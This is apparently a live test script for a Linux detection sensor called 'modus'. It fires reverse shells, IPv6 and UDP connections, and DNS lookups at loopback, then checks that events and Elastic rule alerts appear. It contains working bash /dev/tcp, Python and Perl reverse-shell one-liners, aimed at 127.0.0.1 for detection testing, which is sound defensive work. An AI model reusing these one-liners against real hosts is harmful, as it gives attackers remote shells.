#!/bin/bash
# test_live_net.sh - network and DNS events of modus live on the real kernel,
# loopback only (nothing is sent to any other address):
#   1. reverse shells against a listener on 127.0.0.1: bash's /dev/tcp
#      redirection, a Python socket shell, a Perl one; each must give the
#      connection (with the right modality on its stack), the accept on the
#      other end, the shell's exec on the socket, and an alert;
#   2. IPv6 and UDP connections on ::1 / 127.0.0.1;
#   3. a DNS lookup of a random name through the C library's resolver
#      (getent, Python's getaddrinfo) in a private mount namespace whose
#      resolv.conf points at a tiny responder this test runs on 127.53.x.y:53:
#      the query (lookup_requested) and the answer (lookup_result) with the
#      name and the address.
# Elastic's Linux rules (from the corpus) load next to the pack. Needs root;
# exits 77 (skipped) otherwise. LIVE_CAPTURE=DIR keeps the capture as
# DIR/net.ndjson.
. "$(dirname "$0")/lib.sh"
live_require
PROGS=$(cd "$(dirname "$0")/progs" && pwd)
SRC=$(cd "$(dirname "$0")/../.." && pwd)
RESP=
cleanup() {
    [ -n "$SENSOR" ] && kill "$SENSOR" 2>/dev/null
    [ -n "$RESP" ] && kill "$RESP" 2>/dev/null
    rm -rf "$TMP"
}
trap cleanup EXIT

RULES=(--rules "$SRC/rules")
nlinux=0
if [ -f "$SHARED/corpora/elastic-rules/behavior_rules.jsonl" ]; then
    jq -c 'select(.os | index("linux"))' "$SHARED/corpora/elastic-rules/behavior_rules.jsonl" >"$TMP/linux.jsonl"
    nlinux=$(wc -l <"$TMP/linux.jsonl")
    bash "$SRC/tests/cli/rules_to_toml.sh" "$TMP/linux.jsonl" "$TMP/elastic-linux" 2>/dev/null
    RULES+=(--rules "$TMP/elastic-linux")
else
    echo "note: no corpora ($SHARED): only the pack's rules are loaded"
fi
npack=$(ls "$SRC"/rules/*.toml | wc -l)

# the DNS responder: a loopback address of its own, so that another test on
# this machine, or a local resolver on 127.0.0.1:53, does not get in the way
NS=127.53.$((RANDOM % 250 + 2)).$((RANDOM % 250 + 2))
ANSWER=192.0.2.$((RANDOM % 250 + 2))
/usr/bin/python3 "$PROGS/dns_responder.py" 53 "$ANSWER" "$TMP/dns.ready" "$NS" &
RESP=$!

OUT=$TMP/net.ndjson
sensor_start "$TMP/err" --all-events "${RULES[@]}" --output "$OUT" --stats-interval 0 || exit 1
expect_eq "the sensor loads the pack and Elastic's Linux rules" \
    "$(grep -Eo '; [0-9]+ rules' "$TMP/err" | grep -Eo '[0-9]+')" "$((npack + nlinux))"

# ---- 1. reverse shells ------------------------------------------------------------
PORT=$((20000 + RANDOM % 30000))
shell_case() { # NAME COMMAND...: a listener, then the shell command connecting to it
    local name=$1
    shift
    rm -f "$TMP/l.ready"
    /usr/bin/python3 "$PROGS/listener.py" 127.0.0.1 "$PORT" "$TMP/l.ready" \
        "echo modus-marker-\$((6*7)); exit
" >"$TMP/$name.out" &
    local lpid=$!
    for _ in $(seq 50); do [ -f "$TMP/l.ready" ] && break; sleep 0.1; done
    HOME=$TMP timeout 10 "$@" </dev/null >/dev/null 2>&1 &
    local cpid=$!
    wait $cpid
    wait $lpid
    eval "PID_$name=$cpid LPID_$name=$lpid PORT_$name=$PORT"
    check "$name: the shell ran the listener's command" grep -q "modus-marker-42" "$TMP/$name.out"
    PORT=$((PORT + 1))
}
shell_case bash /bin/bash -c "exec /bin/bash -i >& /dev/tcp/127.0.0.1/$PORT 0>&1"
shell_case py /usr/bin/python3 -c "import socket,subprocess,os
s=socket.socket(); s.connect(('127.0.0.1',$PORT))
os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)
subprocess.call(['/bin/sh','-i'])"
shell_case pl /usr/bin/perl -e "use Socket; socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));
connect(S,sockaddr_in($PORT,inet_aton('127.0.0.1'))) or die;
open(STDIN,'>&S'); open(STDOUT,'>&S'); open(STDERR,'>&S'); exec('/bin/sh -i');"

# ---- 2. IPv6 and UDP ------------------------------------------------------------------
/usr/bin/python3 -c "import socket
l = socket.socket(socket.AF_INET6); l.bind(('::1', 0)); l.listen(1)
c = socket.socket(socket.AF_INET6); c.connect(('::1', l.getsockname()[1]))
a, _ = l.accept(); a.close(); c.close()
r = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); r.bind(('127.0.0.1', 0))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(('127.0.0.1', r.getsockname()[1])); u.send(b'x')
print(l.getsockname()[1], r.getsockname()[1])" >"$TMP/v6udp.out" &
PID_v6=$!
wait $PID_v6
read -r V6PORT UDPPORT <"$TMP/v6udp.out"

# ---- 3. DNS through the C library's resolver -------------------------------------------
for _ in $(seq 50); do [ -f "$TMP/dns.ready" ] && break; sleep 0.1; done
check "the DNS responder runs on $NS:53" test -f "$TMP/dns.ready"
printf 'nameserver %s\noptions attempts:1 timeout:2\n' "$NS" >"$TMP/resolv.conf"
printf 'hosts: files dns\n' >"$TMP/nsswitch.conf"
NAME1=modus-$RANDOM$RANDOM.example.test
NAME2=modus-py-$RANDOM$RANDOM.example.test
NAME3=modus-hidden-$RANDOM$RANDOM.example.test
# a program with a hidden name resolving a name: Elastic's behaviour rule for
# DNS requests by suspicious executables (an exec, then its lookup_result)
HIDDEN=$TMP/.modus-getent-$$
cp /usr/bin/getent "$HIDDEN"
# a private mount namespace: this resolv.conf is seen by these two commands only
unshare -m /bin/sh -c 'mount --bind "$1" /etc/resolv.conf && mount --bind "$2" /etc/nsswitch.conf &&
    getent ahostsv4 "$3" > "$5/getent.out"; echo $! > /dev/null
    /usr/bin/python3 -c "import socket, sys; print(socket.getaddrinfo(sys.argv[1], 80)[0][4][0])" "$4" > "$5/py.out"
    "$6" ahostsv4 "$7" > "$5/hidden.out"' \
    sh "$TMP/resolv.conf" "$TMP/nsswitch.conf" "$NAME1" "$NAME2" "$TMP" "$HIDDEN" "$NAME3"
check "getent resolved the random name through the test's responder" grep -q "^$ANSWER " "$TMP/getent.out"
expect_eq "python resolved the random name through the test's responder" "$(cat "$TMP/py.out")" "$ANSWER"
check "the hidden getent resolved its name" grep -q "^$ANSWER " "$TMP/hidden.out"
# DNS over TCP with send()/recv() (the two-byte length prefix), straight to the responder
NAME4=modus-tcp-$RANDOM$RANDOM.example.test
/usr/bin/python3 -c "import socket, struct, sys
q = struct.pack('>HHHHHH', 0x4d53, 0x0100, 1, 0, 0, 0)
q += b''.join(bytes([len(l)]) + l.encode() for l in sys.argv[2].split('.')) + b'\\0' + struct.pack('>HH', 1, 1)
s = socket.create_connection((sys.argv[1], 53))
s.sendall(struct.pack('>H', len(q)) + q)
r = b''
while len(r) < 2 or len(r) < 2 + struct.unpack('>H', r[:2])[0]:
    d = s.recv(512)
    if not d:
        break
    r += d
print(socket.inet_ntoa(r[-4:]))" "$NS" "$NAME4" >"$TMP/tcp.out"
expect_eq "DNS over TCP: the responder answered" "$(cat "$TMP/tcp.out")" "$ANSWER"

sleep 1
sensor_stop
expect_eq "the sensor exits 0 on SIGINT" "$?" 0
grep "stopped after" "$TMP/err"
check "no record lost in the kernel" grep -q " 0 lost in the kernel" "$TMP/err"
[ -n "${LIVE_CAPTURE:-}" ] && mkdir -p "$LIVE_CAPTURE" && cp "$OUT" "$LIVE_CAPTURE/net.ndjson"
[ -n "${KEEP_LIVE_OUT:-}" ] && cp "$OUT" "$KEEP_LIVE_OUT"

evq() { jq -c "select(.event.kind == \"event\" and ($1))" "$OUT" | head -1; }
frames() { jq -r '[.process.thread.Ext.call_stack[].symbol_info] | join(" | ")'; }
descendants() { echo "$1 $(live_descendants "$OUT" "$1")"; } # PID -> PID and its descendants
alerts_in() { # "PIDS" -> rule names alerted on any of them, sorted, one per line
    jq -r --arg p " $1 " 'select(.event.kind == "alert") | select(" \(.process.pid) " as $x | $p | contains($x)) | .rule.name' "$OUT" | sort -u
}

# connecting process: the sh -c / python / perl pid or one of its descendants
shell_checks() { # NAME MODALITY SHELL
    local name=$1 modality=$2 shell=$3
    local port lpid pids e c
    eval "port=\$PORT_$name lpid=\$LPID_$name"
    eval "pids=\$(descendants \$PID_$name)"
    e=$(evq ".event.action == \"connection_attempted\" and .destination.port == $port")
    check "$name: connection_attempted to 127.0.0.1:$port" [ -n "$e" ]
    case " $pids " in *" $(jq -r .process.pid <<<"$e") "*) ok=1 ;; *) ok=0 ;; esac
    check "$name: made by the shell command's process tree" [ $ok = 1 ]
    expect_eq "$name: connection: event.category" "$(jq -c .event.category <<<"$e")" '["network"]'
    expect_eq "$name: connection: event.type" "$(jq -c .event.type <<<"$e")" '["start"]'
    expect_eq "$name: connection: destination.ip" "$(jq -r .destination.ip <<<"$e")" 127.0.0.1
    expect_eq "$name: connection: source.ip" "$(jq -r .source.ip <<<"$e")" 127.0.0.1
    expect_eq "$name: connection: transport, type, direction" \
        "$(jq -r '"\(.network.transport) \(.network.type) \(.network.direction)"' <<<"$e")" "tcp ipv4 egress"
    expect_eq "$name: connection: result" "$(jq -r .network.Ext.result <<<"$e")" success
    expect_eq "$name: connection: modality" "$(jq -r .modality.name <<<"$e")" "$modality"
    check "$name: connection: the stack reaches connect()" grep -q "connect" <<<"$(frames <<<"$e")"
    local sport
    sport=$(jq -r .source.port <<<"$e")
    c=$(evq ".event.action == \"connection_accepted\" and .process.pid == $lpid")
    expect_eq "$name: the listener's connection_accepted: the peer's port" "$(jq -r .source.port <<<"$c")" "$sport"
    expect_eq "$name: the listener's connection_accepted: its own port, direction" \
        "$(jq -r '"\(.destination.port) \(.network.direction)"' <<<"$c")" "$port ingress"
    check "$name: the listener's listen event" [ -n "$(evq ".event.action == \"listen\" and .process.pid == $lpid and .source.port == $port")" ]
    check "$name: the listener's disconnect_received" [ -n "$(evq ".event.action == \"disconnect_received\" and .process.pid == $lpid")" ]
    local x
    x=$(jq -c --arg p " $pids " 'select(.event.kind == "event" and .event.action == "exec") | select(" \(.process.pid) " as $x | $p | contains($x)) | select( .process.name == "'"$shell"'" and .process.Ext.stdio_socket == true)' "$OUT" | head -1)
    check "$name: the shell ($shell) runs with the socket as stdin/stdout" [ -n "$x" ]
    local al
    al=$(alerts_in "$pids")
    check "$name: a rule alerts (got: $(tr '\n' ';' <<<"$al"))" grep -Eq "Reverse shell|Script connects out" <<<"$al"
}
shell_checks bash shell bash
check "bash: bash's redirection code on the connection's stack" \
    grep -q "do_redirections\|redir" <<<"$(evq ".event.action == \"connection_attempted\" and .destination.port == $PORT_bash" | frames)"
shell_checks py python dash
check "python: the interpreter loop on the connection's stack" \
    grep -q "_PyEval_EvalFrameDefault" <<<"$(evq ".event.action == \"connection_attempted\" and .destination.port == $PORT_py" | frames)"
shell_checks pl perl dash
check "perl: Perl_pp_connect on the connection's stack" \
    grep -q "Perl_pp_" <<<"$(evq ".event.action == \"connection_attempted\" and .destination.port == $PORT_pl" | frames)"

# IPv6 and UDP
e=$(evq ".event.action == \"connection_attempted\" and .process.pid == $PID_v6 and .destination.port == $V6PORT")
expect_eq "ipv6: destination.ip, network.type" "$(jq -r '"\(.destination.ip) \(.network.type)"' <<<"$e")" "::1 ipv6"
expect_eq "ipv6: modality" "$(jq -r .modality.name <<<"$e")" python
e=$(evq ".event.action == \"connection_accepted\" and .process.pid == $PID_v6")
expect_eq "ipv6: accepted from ::1" "$(jq -r '"\(.source.ip) \(.destination.port)"' <<<"$e")" "::1 $V6PORT"
e=$(evq ".event.action == \"connection_attempted\" and .process.pid == $PID_v6 and .destination.port == $UDPPORT")
expect_eq "udp: a connected UDP socket: transport" "$(jq -r .network.transport <<<"$e")" udp
e=$(evq ".event.action == \"bind\" and .process.pid == $PID_v6 and .source.port == $UDPPORT")
expect_eq "udp: the receiving socket's bind" "$(jq -r '"\(.source.ip) \(.network.transport)"' <<<"$e")" "127.0.0.1 udp"

# DNS
for n in "$NAME1 getent native" "$NAME2 python3.11 python"; do
    set -- $n
    q=$(evq ".event.action == \"lookup_requested\" and .dns.question.name == \"$1\" and .dns.question.type == \"A\"")
    check "dns $2: lookup_requested for $1" [ -n "$q" ]
    expect_eq "dns $2: the query: process, category, type" \
        "$(jq -r '"\(.process.name) \(.event.category | join(",")) \(.event.type | join(","))"' <<<"$q")" "$2 network,dns protocol,info"
    expect_eq "dns $2: the query went to the test's responder" \
        "$(jq -r '"\(.destination.ip):\(.destination.port) \(.network.transport) \(.network.protocol)"' <<<"$q")" "$NS:53 udp dns"
    expect_eq "dns $2: modality of the lookup" "$(jq -r .modality.name <<<"$q")" "$3"
    r=$(evq ".event.action == \"lookup_result\" and .dns.question.name == \"$1\" and .dns.question.type == \"A\"")
    expect_eq "dns $2: lookup_result: resolved_ip" "$(jq -r '.dns.resolved_ip | join(",")' <<<"$r")" "$ANSWER"
    expect_eq "dns $2: lookup_result: the answer record" \
        "$(jq -r '.dns.answers[0] | "\(.name) \(.type) \(.data)"' <<<"$r")" "$1 A $ANSWER"
    expect_eq "dns $2: lookup_result: from the responder, rcode" \
        "$(jq -r '"\(.source.ip):\(.source.port) \(.dns.response_code)"' <<<"$r")" "$NS:53 NOERROR"
done
q=$(evq ".event.action == \"lookup_requested\" and .dns.question.name == \"$NAME4\"")
expect_eq "dns tcp: the query, over tcp, from python" "$(jq -r '"\(.network.transport) \(.destination.port) \(.modality.name) \(.dns.id)"' <<<"$q")" "tcp 53 python 19795"
r=$(evq ".event.action == \"lookup_result\" and .dns.question.name == \"$NAME4\"")
expect_eq "dns tcp: the answer" "$(jq -r '.dns.resolved_ip | join(",")' <<<"$r")" "$ANSWER"
r=$(evq ".event.action == \"lookup_result\" and .dns.question.name == \"$NAME3\"")
expect_eq "dns hidden: lookup_result by the hidden executable" "$(jq -r .process.executable <<<"$r")" "$HIDDEN"
if [ "$nlinux" -gt 0 ]; then
    expect_eq "dns hidden: Elastic's behaviour rule on the exec and its lookup_result" \
        "$(jq -r --argjson p "$(jq -r .process.pid <<<"$r")" 'select(.event.kind == "alert" and .process.pid == $p) | .rule.name' "$OUT" | grep -c "DNS Request by Suspicious Process Executable")" 1
fi
check "dns: getaddrinfo's python caller on the lookup's stack" \
    grep -q "_PyEval_EvalFrameDefault" <<<"$(evq ".event.action == \"lookup_requested\" and .dns.question.name == \"$NAME2\"" | frames)"
check "dns: no lookup of the test's names reached any other server" \
    [ -z "$(jq -c 'select(.event.kind == "event" and .dns and (.dns.question.name == "'"$NAME1"'" or .dns.question.name == "'"$NAME2"'") and .event.action == "lookup_requested" and .destination.ip != "'"$NS"'")' "$OUT")" ]

finish
